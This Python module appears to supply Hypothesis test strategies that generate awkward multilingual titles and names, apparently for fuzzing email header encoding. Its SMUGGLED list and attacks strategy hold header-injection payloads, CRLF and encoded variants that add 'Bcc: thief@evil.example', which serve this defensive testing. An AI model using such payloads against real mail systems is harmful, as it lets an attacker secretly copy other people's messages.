"""Titles and names as bad as four languages and their typography can make them."""

from random import Random

from hypothesis import strategies as st

_TEXT = """
    Grundwasserschutzmaßnahmen für Übergänge in Köln
    l’œuvre d’été naïve déjà reçue à Besançon
    geïnteresseerd drinkwatervoorziening één privé-initiatief
    the wells of a valley told us why, at last
"""
WORDS = tuple(_TEXT.split())
SIGNS = (
    *("«", "»", "„", "“", "”", "‚", "‘", "’", "–", "—", "…", "·", "‑", "€", "°"),
    *(
        ",",
        ".",
        ";",
        ":",
        "!",
        "?",
        "'",
        '"',
        "\\",
        "/",
        "(",
        ")",
        "<",
        ">",
        "[",
        "]",
        "@",
        "=",
        "_",
        "#",
        "%",
    ),
)
SPACES = ("\N{NO-BREAK SPACE}", "\N{NARROW NO-BREAK SPACE}", "\N{THIN SPACE}", "\N{SOFT HYPHEN}")
EMOJI = ("💧", "👩‍🔬", "🇳🇱", "☀️", "𝔘")
CODES = ("=?utf-8?q?f=C3=BCr?=", "=?UTF-8?B?w7w=?=", "=?", "?=", "=20", "&amp;", "<b>", "\\n", "%0d%0a")
PIECES = (*WORDS, *SIGNS, *SPACES, *EMOJI, *CODES)
SHORTEST, LONGEST = 20, 200

BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\r\n ",
    "\n\n",
    "\x85",
    "\u2028",
    "\u2029",
    "\x0b",
    "\x0c",
    "\x00",
    "\x1c",
    "\x1e",
)
"""Whatever some program takes for the end of a line."""
SMUGGLED = (
    "Bcc: thief@evil.example",
    "Content-Type: text/html",
    "\r\nBcc: thief@evil.example",
    "<thief@evil.example>",
    ", thief@evil.example",
    "=?utf-8?q?=0D=0ABcc:_thief@evil.example?=",
    "=?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=",
    "=0D=0ABcc: thief@evil.example",
    "%0D%0ABcc:%20thief@evil.example",
    "--=_boundary",
)


@st.composite
def titles(draw: st.DrawFn) -> str:
    """Twenty to two hundred letters on one line: words of four languages and everything around them."""
    pieces = draw(st.lists(st.sampled_from(PIECES), min_size=4, max_size=45))
    return _title(pieces, draw(st.sampled_from(("", " ", " ", "\N{NARROW NO-BREAK SPACE}"))))


@st.composite
def attacks(draw: st.DrawFn) -> str:
    """A name that tries to begin a header of its own."""
    pieces = draw(st.lists(st.sampled_from((*BREAKS, *SMUGGLED, *WORDS, *SIGNS)), min_size=3, max_size=20))
    breaks = draw(st.sampled_from(BREAKS))
    return "".join(pieces) + breaks + draw(st.sampled_from(SMUGGLED))


def some_titles(number: int, seed: int = 1) -> list[str]:
    """The same kind of titles, without Hypothesis: so many, always the same ones."""
    chance = Random(seed)
    return [
        _title(chance.choices(PIECES, k=chance.randint(4, 45)), chance.choice(("", " ", " ")))
        for _ in range(number)
    ]


def _title(pieces: list[str], glue: str) -> str:
    text = glue.join(pieces)[:LONGEST].strip()
    return text if len(text) >= SHORTEST else f"{text} Grundwasserschutzmaßnahmen".strip()
